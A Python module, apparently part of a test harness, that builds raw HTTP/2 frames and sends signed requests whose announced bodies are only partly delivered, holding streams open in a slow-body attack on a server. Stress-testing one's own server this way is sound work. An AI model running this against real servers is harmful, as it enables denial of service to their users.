"""HTTP/2 by hand: a connection whose streams send as much of their bodies as the attack wants, and when it wants."""

import struct

from wire import UNSIGNED, Signer, connect

DATA, HEADERS, RESET, SETTINGS, WINDOW = 0, 1, 3, 4, 8
ACK = END_STREAM = 1
END_HEADERS = 4
PIECE_BYTES = 16384


def frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def text(value: str) -> bytes:
    """A string of HPACK, not compressed."""
    data = value.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, size = len(data) - 127, b"\x7f"
    while rest >= 128:
        size, rest = size + bytes([rest % 128 + 128]), rest // 128
    return size + bytes([rest]) + data


class Streams:
    """One connection; `open` are its streams that have no whole answer."""

    def __init__(self, who):
        self.who, self.next, self.left, self.data, self.open = who, 1, 65535, b"", set()
        self.stream = connect(who, 10)
        self.stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.take(1)

    def take(self, seconds: float) -> None:
        """Takes what has come, until nothing comes for so long."""
        self.stream.settimeout(seconds)
        try:
            while more := self.stream.recv(65536):
                self.data += more
                while len(self.data) >= 9 and len(self.data) >= 9 + (size := int.from_bytes(self.data[:3])):
                    kind, flags, number = self.data[3], self.data[4], int.from_bytes(self.data[5:9])
                    body, self.data = self.data[9 : 9 + size], self.data[9 + size :]
                    if kind == WINDOW and number == 0:
                        self.left += int.from_bytes(body)
                    elif kind == SETTINGS and not flags & ACK:
                        self.stream.sendall(frame(SETTINGS, ACK, 0))
                        seconds = 0.02
                        self.stream.settimeout(seconds)
                    elif kind == RESET or (kind in (DATA, HEADERS) and flags & END_STREAM):
                        self.open.discard(number)
        except TimeoutError:
            pass
        finally:
            self.stream.settimeout(10)

    def begin(self, method: str, path: str, pairs: list[tuple[str, str]], announced: int, sent: int) -> None:
        """A signed request, of whose body `announced` bytes are promised and `sent` come."""
        signed = Signer(self.who).headers(method, path, pairs, {}, UNSIGNED)
        host = signed.pop("host")
        target = path + "".join(f"?{name}={value}" for name, value in pairs)
        fields = {":method": method, ":scheme": "http", ":path": target, ":authority": host,
                  "content-length": str(announced), **signed}
        head = b"".join(b"\x00" + text(name) + text(value) for name, value in fields.items())
        number, self.next = self.next, self.next + 2
        self.open.add(number)
        self.stream.sendall(frame(HEADERS, END_HEADERS, number, head))
        while sent and number in self.open:
            piece, waits = min(sent, PIECE_BYTES), 0
            while self.left < piece and waits < 100:
                self.take(0.02)
                waits += 1
            if self.left < piece:
                return
            self.stream.sendall(frame(DATA, 0, number, b" " * piece))
            self.left, sent = self.left - piece, sent - piece

    def close(self) -> None:
        self.stream.close()
